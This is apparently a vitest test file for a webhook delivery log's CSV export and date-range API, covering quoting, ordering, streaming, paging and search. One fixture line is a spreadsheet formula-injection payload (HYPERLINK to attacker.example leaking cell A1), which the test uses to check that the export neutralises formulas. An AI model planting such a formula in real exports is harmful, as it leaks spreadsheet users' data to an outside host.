import { createHmac } from "node:crypto";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { getPool } from "@/lib/db.ts";
import { CSV_COLUMNS, exportDeliveriesCsv } from "@/lib/deliveries/export-deliveries-csv.ts";
import { maskitBody } from "@/lib/senders/multipart-body.ts";
import { startTestEnvironment, type TestEnvironment } from "./helpers/environment.ts";
import { makeJpeg } from "./helpers/images.ts";

// The delivery log's CSV export and date range: the export holds exactly the rows the log
// shows for the same filters, in the same order, safely quoted for spreadsheets, streamed a
// page at a time however many there are.

const SECRET = "whsec_deliveries-log-secret-0123456789";
const TRICKY = 'tricky, "quoted"\nsecond line';
const FORMULA = '=HYPERLINK("http://attacker.example/?leak="&A1,"click me")';
const BULK_COUNT = 3000;

let env: TestEnvironment;
const ids: Record<string, string> = {};
let bulkSourceId: string;

beforeAll(async () => {
  env = await startTestEnvironment();
  await env.createMaskitSource("cam-a", [SECRET]);
  await env.createMaskitSource("cam-b", [SECRET]);
  bulkSourceId = (await env.createMaskitSource("bulk", [SECRET])).id;
  await env.createMaskitSource("dated", [SECRET]);
  const photo = await makeJpeg(64, 48);
  const deliveries: Array<[name: string, slug: string, metadata: string, secret: string]> = [
    ["front", "cam-a", "order-1001 front", SECRET],
    ["tricky", "cam-a", TRICKY, SECRET],
    ["formula", "cam-a", FORMULA, SECRET],
    ["forged", "cam-b", "order-2002 side", "whsec_not-the-secret-at-all-000"],
  ];
  for (const [name, slug, metadata, secret] of deliveries) {
    const { body, contentType } = maskitBody(photo, metadata);
    const signature = createHmac("sha256", secret).update(body).digest("hex");
    ids[name] = (await (await env.post(slug, body, { "content-type": contentType, "x-signature": signature })).json()).id;
  }
  ids.rejected = (await (await env.post("cam-b", Buffer.from("not multipart"), { "content-type": "text/plain", "x-signature": "00" })).json()).id;

  // Thousands of rows in one statement: copies of the first delivery, two per second so that
  // ties on received_at are ordered by id, all on 2025-02-01 (UTC).
  await getPool().query(
    `INSERT INTO deliveries (id, source_id, received_at, status, http_status, reason, metadata, body_sha256, body_size, headers, image_id, matched_credential)
     SELECT gen_random_uuid(), $2, timestamptz '2025-02-01 12:00:00Z' + make_interval(secs => g / 2), status, http_status, reason,
            'bulk row ' || g, body_sha256, body_size, headers, image_id, matched_credential
       FROM deliveries, generate_series(1, $3) AS g WHERE id = $1`,
    [ids.front, bulkSourceId, BULK_COUNT],
  );
  await getPool().query(
    `INSERT INTO deliveries (id, source_id, received_at, status, http_status, metadata, headers)
     SELECT gen_random_uuid(), s.id, at::timestamptz, 'verified', 200, 'dated ' || at, '{}' FROM sources s,
            unnest(ARRAY['2025-03-01T00:00:00Z', '2025-03-01T23:59:59.999Z', '2025-03-02T12:00:00Z', '2025-03-03T00:00:00Z']) AS at
      WHERE s.slug = 'dated'`,
  );
}, 240_000);

afterAll(async () => {
  await env?.close();
});

describe("GET /api/deliveries/export", () => {
  it("needs a session or an API token", async () => {
    expect((await fetch(`${env.app.baseUrl}/api/deliveries/export`)).status).toBe(401);
    const forged = await fetch(`${env.app.baseUrl}/api/deliveries/export`, { headers: { authorization: "Bearer whi_forged-token-0000000000000000000000000" } });
    expect(forged.status).toBe(401);
  });

  it("answers a CSV download with a header row", async () => {
    const response = await env.api("/api/deliveries/export?source=cam-a");
    expect(response.status).toBe(200);
    expect(response.headers.get("content-type")).toBe("text/csv; charset=utf-8");
    expect(response.headers.get("content-disposition")).toMatch(/^attachment; filename="deliveries-\d{4}-\d\d-\d\d\.csv"$/);
    const text = await response.text();
    expect(text.startsWith(`${CSV_COLUMNS.join(",")}\r\n`)).toBe(true);
    expect(text.endsWith("\r\n")).toBe(true);
  });

  it("holds exactly the rows the log lists for the same filters, newest first", async () => {
    for (const query of [
      "status=failed",
      "status=rejected",
      "source=cam-a",
      "source=cam-b",
      "q=ORDER-",
      "q=order-2002&source=cam-b&status=failed",
      "source=cam-a&status=failed",
    ]) {
      const rows = await exportRows(query);
      expect(
        rows.map((row) => row.id),
        query,
      ).toEqual(await listedIds(query));
    }
    expect((await exportRows("status=failed")).map((row) => row.id)).toEqual([ids.forged]);
    expect((await exportRows("q=order-")).map((row) => row.id)).toEqual([ids.forged, ids.front]);
    expect((await exportRows("source=cam-a")).map((row) => row.id)).toEqual([ids.formula, ids.tricky, ids.front]);
  });

  it("fills every column", async () => {
    const [front] = await exportRows("q=order-1001");
    expect(front).toEqual({
      id: ids.front,
      received_at: expect.stringMatching(/^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{3}Z$/),
      source: "cam-a",
      status: "verified",
      http_status: "200",
      reason: "",
      metadata: "order-1001 front",
      job_id: "",
      body_size: expect.stringMatching(/^\d+$/),
      matched_credential: expect.stringMatching(/^secret 1 \([0-9a-f:]+\)$/),
      image_sha256: expect.stringMatching(/^[0-9a-f]{64}$/),
      // Set only for a failed delivery an operator re-verified (test/inspector.test.ts).
      reverified_at: "",
      reverified_by: "",
    });
    const [rejected] = await exportRows("status=rejected");
    expect(rejected).toMatchObject({
      id: ids.rejected,
      source: "cam-b",
      http_status: "415",
      reason: expect.stringMatching(/.+/),
      matched_credential: "",
      image_sha256: "",
    });
  });

  it("quotes commas, quotes and line breaks as RFC 4180 says", async () => {
    const text = await (await env.api("/api/deliveries/export?source=cam-a")).text();
    expect(text).toContain(`,"tricky, ""quoted""\nsecond line",`);
    const [row] = await exportRows("q=tricky");
    expect(row.metadata).toBe(TRICKY);
  });

  it("keeps a spreadsheet from running a metadata formula", async () => {
    const text = await (await env.api("/api/deliveries/export?source=cam-a")).text();
    expect(text).not.toMatch(/(^|,)"?=HYPERLINK/m);
    const [row] = await exportRows("q=HYPERLINK");
    expect(row.metadata).toBe(`'${FORMULA}`);
  });

  it("streams thousands of rows, all of them, in order", async () => {
    const rows = await exportRows("source=bulk");
    expect(rows).toHaveLength(BULK_COUNT);
    const { rows: expected } = await getPool().query<{ id: string }>("SELECT id FROM deliveries WHERE source_id = $1 ORDER BY received_at DESC, id DESC", [
      bulkSourceId,
    ]);
    expect(rows.map((row) => row.id)).toEqual(expected.map((row) => row.id));
    expect(rows[0]).toMatchObject({ metadata: `bulk row ${BULK_COUNT}`, image_sha256: expect.stringMatching(/^[0-9a-f]{64}$/) });
    expect(new Set(rows.map((row) => row.id)).size).toBe(BULK_COUNT);
  });

  it("reads the database one page per chunk, as the reader asks", async () => {
    const reader = (await exportDeliveriesCsv({ source: "bulk" }, { pageSize: 700 })).getReader();
    const decoder = new TextDecoder();
    const linesPerChunk: number[] = [];
    for (let chunk = await reader.read(); !chunk.done; chunk = await reader.read()) linesPerChunk.push(decoder.decode(chunk.value).split("\r\n").length - 1);
    // The header with the first page, then one page at a time, the last one short.
    expect(linesPerChunk).toEqual([701, 700, 700, 700, 200]);
  });

  it("exports a date range, UTC days with both ends included", async () => {
    const metadata = async (query: string) => (await exportRows(`source=dated&${query}`)).map((row) => row.metadata);
    expect(await metadata("from=2025-03-01&to=2025-03-02")).toEqual([
      "dated 2025-03-02T12:00:00Z",
      "dated 2025-03-01T23:59:59.999Z",
      "dated 2025-03-01T00:00:00Z",
    ]);
    expect(await metadata("from=2025-03-03")).toEqual(["dated 2025-03-03T00:00:00Z"]);
    expect((await exportRows("from=2025-02-01&to=2025-02-01")).length).toBe(BULK_COUNT);
    expect(await exportRows("from=2025-02-02&to=2025-02-28")).toEqual([]);
  });

  it("answers 400 for filters it cannot use", async () => {
    expect((await env.api("/api/deliveries/export?status=lost")).status).toBe(400);
    expect((await env.api("/api/deliveries/export?from=2025-13-01")).status).toBe(400);
    expect((await env.api("/api/deliveries/export?from=2025-03-02&to=2025-03-01")).status).toBe(400);
  });
});

describe("GET /api/deliveries with a date range", () => {
  it("keeps the deliveries of the given UTC days, both ends included", async () => {
    const metadata = async (query: string) =>
      (await (await env.api(`/api/deliveries?source=dated&${query}`)).json()).items.map((item: { metadata: string }) => item.metadata);
    expect(await metadata("from=2025-03-01&to=2025-03-02")).toEqual([
      "dated 2025-03-02T12:00:00Z",
      "dated 2025-03-01T23:59:59.999Z",
      "dated 2025-03-01T00:00:00Z",
    ]);
    expect(await metadata("to=2025-03-01")).toEqual(["dated 2025-03-01T23:59:59.999Z", "dated 2025-03-01T00:00:00Z"]);
    expect(await metadata("from=2025-03-02")).toEqual(["dated 2025-03-03T00:00:00Z", "dated 2025-03-02T12:00:00Z"]);
    expect(await metadata("from=2025-03-04")).toEqual([]);
    // Empty parameters, as a GET form sends them, mean "any".
    expect(await metadata("from=&to=&status=&q=")).toHaveLength(4);
  });

  it("pages through a range with the keyset cursor", async () => {
    const seen: string[] = [];
    let cursor: string | null = null;
    do {
      const page: { items: Array<{ id: string }>; nextCursor: string | null } = await (
        await env.api(`/api/deliveries?from=2025-02-01&to=2025-02-01&limit=200${cursor ? `&cursor=${cursor}` : ""}`)
      ).json();
      seen.push(...page.items.map((item) => item.id));
      cursor = page.nextCursor;
    } while (cursor);
    const { rows: expected } = await getPool().query<{ id: string }>("SELECT id FROM deliveries WHERE source_id = $1 ORDER BY received_at DESC, id DESC", [
      bulkSourceId,
    ]);
    expect(seen).toEqual(expected.map((row) => row.id));
  });

  it("answers 400 for a bad date or a range that ends before it starts", async () => {
    expect((await env.api("/api/deliveries?from=yesterday")).status).toBe(400);
    expect((await env.api("/api/deliveries?from=2025-03-02&to=2025-03-01")).status).toBe(400);
  });
});

async function exportRows(query: string): Promise<Array<Record<string, string>>> {
  const response = await env.api(`/api/deliveries/export${query ? `?${query}` : ""}`);
  expect(response.status, query).toBe(200);
  const [header, ...rows] = parseCsv(await response.text());
  expect(header).toEqual([...CSV_COLUMNS]);
  return rows.map((cells) => Object.fromEntries(header.map((name, index) => [name, cells[index]])));
}

async function listedIds(query: string): Promise<string[]> {
  const response = await env.api(`/api/deliveries?limit=200${query ? `&${query}` : ""}`);
  expect(response.status, query).toBe(200);
  return (await response.json()).items.map((item: { id: string }) => item.id);
}

/** A strict RFC 4180 reader (CRLF records, quoted fields with doubled quotes), so a test fails on any slip. */
function parseCsv(text: string): string[][] {
  const records: string[][] = [];
  let record: string[] = [];
  let index = 0;
  while (index < text.length) {
    let field = "";
    if (text[index] === '"') {
      index++;
      for (;;) {
        const quote = text.indexOf('"', index);
        if (quote < 0) throw new Error("unterminated quoted field");
        field += text.slice(index, quote);
        if (text[quote + 1] === '"') {
          field += '"';
          index = quote + 2;
        } else {
          index = quote + 1;
          break;
        }
      }
    } else {
      const end = text.slice(index).search(/[,\r\n"]/);
      field = end < 0 ? text.slice(index) : text.slice(index, index + end);
      if (text[index + field.length] === '"') throw new Error(`stray quote at ${index + field.length}`);
      index += field.length;
    }
    record.push(field);
    if (text[index] === ",") {
      index++;
    } else if (text.startsWith("\r\n", index)) {
      records.push(record);
      record = [];
      index += 2;
    } else {
      throw new Error(`expected a comma or CRLF at ${index}`);
    }
  }
  if (record.length > 0) throw new Error("the last record does not end with CRLF");
  return records;
}

describe("the log's search (q)", () => {
  it("finds a part of the metadata, the file name or the job id in any case, and a whole delivery or job id; % and _ are literal", async () => {
    const { rows } = await getPool().query<{ id: string; metadata: string | null }>(
      `INSERT INTO deliveries (id, source_id, received_at, status, http_status, metadata, file_name, job_id, headers)
       SELECT gen_random_uuid(), s.id, timestamptz '2025-04-01 12:00:00Z' + make_interval(secs => n), 'failed', 401, m, f, j, '{}'
         FROM sources s, (VALUES (1, 'search 50% off_sale', NULL, NULL), (2, 'search 50 percent offXsale', NULL, NULL),
                                 (3, NULL, 'Frame-00042.JPG', NULL), (4, NULL, NULL, 'job-ABC-123-xyz'),
                                 (5, NULL, NULL, '7ff3043b-5215-6bc3-752e-26e34cd56cf4'), (6, 'batch 7ff3043b-5215-6bc3-752e-26e34cd56cf4', NULL, NULL)) AS v(n, m, f, j)
        WHERE s.slug = 'dated'
       RETURNING id, coalesce(metadata, file_name, job_id) AS metadata`,
    );
    const idOf = (text: string) => rows.find((row) => row.metadata?.includes(text))!.id;
    const jobDelivery = rows.find((row) => row.metadata === "7ff3043b-5215-6bc3-752e-26e34cd56cf4")!.id;
    const found = async (q: string) => {
      const response = await env.api(`/api/deliveries?source=dated&q=${encodeURIComponent(q)}`);
      expect(response.status).toBe(200);
      return ((await response.json()) as { items: Array<{ id: string }> }).items.map((item) => item.id).sort();
    };
    expect(await found("50%")).toEqual([idOf("50% off")]);
    expect(await found("off_s")).toEqual([idOf("50% off")]);
    expect(await found("%")).toEqual([idOf("50% off")]);
    expect(await found("search 50")).toEqual([idOf("50% off"), idOf("50 percent")].sort());
    expect(await found("frame-00042.jpg")).toEqual([idOf("Frame-00042")]);
    expect(await found("abc-123")).toEqual([idOf("job-ABC")]);
    expect(await found(idOf("job-ABC").toUpperCase())).toEqual([idOf("job-ABC")]);
    // A UUID is a whole id (delivery or Eden AI job, any case), found by equality, not a substring.
    expect(await found("7FF3043B-5215-6BC3-752E-26E34CD56CF4")).toEqual([jobDelivery]);
    expect(await found(" 7ff3043b-5215-6bc3-752e-26e34cd56cf4 ")).toEqual([jobDelivery]);
    expect(await found("7ff3043b-5215")).toEqual([jobDelivery, idOf("batch 7ff3043b")].sort());
    expect(await found("no such thing")).toEqual([]);
    // The export and the bulk deletion use the same filters.
    const csv = await (await env.api(`/api/deliveries/export?source=dated&q=${encodeURIComponent("off_s")}`)).text();
    expect(csv.trimEnd().split("\r\n")).toHaveLength(2);
  });
});
